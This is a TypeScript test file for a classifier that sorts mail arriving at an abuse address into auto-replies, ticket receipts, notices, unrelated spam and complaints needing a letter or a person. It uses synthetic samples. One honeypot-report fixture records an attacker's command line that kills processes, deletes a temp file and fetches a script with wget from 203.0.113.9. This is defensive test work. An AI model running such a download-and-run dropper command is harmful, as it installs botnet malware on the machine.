import { describe, expect, it } from 'vitest';
import { judgeRaw } from '../../support/judging.ts';

type Sample = {
  readonly from?: string;
  readonly subject: string;
  readonly header?: string;
  readonly body: string;
};

async function judged({ from = 'Sam Doyle <sam@cycles.example>', subject, header, body }: Sample) {
  const lines = [
    `From: ${from}`,
    'To: abuse@exits.example',
    `Subject: ${subject}`,
    'Date: Tue, 10 Nov 2026 10:00:00 +0000',
    'Message-ID: <kinds@sample.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    ...(header === undefined ? [] : [header]),
    '',
    body,
    '',
  ];
  const { judgement } = await judgeRaw(Buffer.from(lines.join('\r\n'), 'utf8'));
  return { kind: judgement.kind, automated: judgement.sender.automated, handling: judgement.risk.handling };
}

describe('what is put aside', () => {
  it.each<[string, Sample, string]>([
    [
      'a parcel that could not be delivered is no bounce',
      {
        subject: 'Your parcel could not be delivered',
        body: 'Your parcel is held for a customs fee of 1.99. Pay now to reschedule the delivery.',
      },
      'unrelated',
    ],
    [
      'an attorney with an inheritance demands nothing',
      {
        subject: 'Confidential',
        body: 'I am the attorney of a late client who left a deposit of 8 million dollars. You are to be the next of kin, and the transfer is risk free.',
      },
      'unrelated',
    ],
    [
      'a mailing is known by its head in a language that nobody knows',
      { subject: 'Aloha', header: 'List-Unsubscribe: <https://x.example/u>', body: 'E komo mai i ka hale kuai hou!' },
      'unrelated',
    ],
    [
      'an answering machine knows of opening hours and no ticket',
      {
        subject: 'Thank you for your message',
        body: 'Thank you for your message. We answer in two days. Our opening hours are Monday to Friday.',
      },
      'auto-reply',
    ],
    [
      'the subject of an earlier mail accuses nobody anew',
      { subject: 'Re: Report about 198.51.100.10', body: 'Gone sailing! Back Monday. Call Steve if it burns.' },
      'auto-reply',
    ],
    [
      'a receipt tells the number of its subject again',
      {
        from: 'Support <support@hosting.example>',
        subject: 'Re: attack [T-5521]',
        body: 'Your message was added to ticket T-5521. More when there is news.',
      },
      'ticket-ack',
    ],
    [
      'a provider changes its terms',
      {
        from: 'Northrack Legal <legal@northrack.example>',
        subject: 'Update to our terms of service',
        body: 'The new version applies from 1 December 2026. There is nothing you need to do about open resolvers.',
      },
      'notice',
    ],
    [
      'a mailing that sells, although it names an exit and the lists that this stands on',
      {
        from: 'Blair <blair@warmer.example>',
        subject: '198.51.100.10 has a reputation problem',
        header: 'List-Unsubscribe: <mailto:out@warmer.example>',
        body: 'I saw 198.51.100.10 on two blacklists. We helped 400 teams get clean. Do you have 15 minutes on Thursday for a quick demo?',
      },
      'unrelated',
    ],
    [
      'a receipt that tells what belongs to the police',
      {
        from: 'Support <support@hosting.example>',
        subject: '[Case 88172] We received your message',
        header: 'Auto-Submitted: auto-replied',
        body: 'Your request "attack from 198.51.100.10" has been put in our queue with number 88172. Threats and extortion must be reported to the police.',
      },
      'ticket-ack',
    ],
  ])('%s', async (_, sample, kind) => {
    expect(await judged(sample)).toEqual({ kind, automated: true, handling: 'none' });
  });

  it('a word or two without any mark of a program was typed by a person', async () => {
    const found = await judged({ from: 'a@b.example', subject: 'test', body: 'hello hello' });
    expect(found).toEqual({ kind: 'unrelated', automated: false, handling: 'none' });
  });
});

describe('what a standard letter answers', () => {
  it.each<[string, Sample]>([
    [
      'a trap that shows the commands it was given, as a field',
      {
        from: 'Honey <cron@jar.example>',
        subject: 'one new visitor',
        body: 'src=198.51.100.10 proto=telnet first=1794215526 tries=14\r\ncmds=/bin/busybox KILL; rm -f /tmp/.die; wget http://203.0.113.9/bins.sh',
      },
    ],
  ])('%s', async (_, sample) => {
    expect(await judged(sample)).toMatchObject({ kind: 'complaint', handling: 'letter' });
  });

  it('never somebody of whom a mail only says that they spoke, where nothing else is told', async () => {
    const sample = {
      subject: 'A question',
      body: 'They said that your address 198.51.100.10 wrote on 9 November.\r\nSam Doyle',
    };
    expect(await judged(sample)).toMatchObject({ kind: 'complaint', handling: 'person' });
  });
});

describe('what is never put aside', () => {
  it.each<[string, Sample]>([
    [
      'a complaint that quotes the scam',
      {
        subject: 'phishing sent through your server',
        body: 'My customers got this from 198.51.100.10 on 9 November 2026, 09:12 UTC: "Your parcel could not be delivered. Click here to pay now the customs fee and confirm your card." Please stop it.\r\nSam Doyle',
      },
    ],
    [
      'a complaint about advertisements that names no address',
      {
        subject: 'spam from your network',
        body: 'Somebody in your network sends us special offers for casino bonus and loans every day, and unsubscribing does not help. Please stop the spam.\r\nSam',
      },
    ],
    [
      'a complaint about newsletters',
      {
        subject: 'newsletter sign-ups',
        body: 'Somebody signs up strangers for our weekly newsletter, 900 since 9 November 2026, 15:30 UTC, all from 198.51.100.12. Could you stop this?\r\nSam Doyle',
      },
    ],
    [
      'danger under the subject of an answering machine',
      {
        subject: 'Out of office',
        body: 'Someone at 198.51.100.12 wrote on 9 November 2026, 21:15 UTC that he will kill my daughter. We are afraid.\r\nSam Doyle',
      },
    ],
  ])('%s', async (_, sample) => {
    expect((await judged(sample)).kind).toBe('complaint');
  });
});
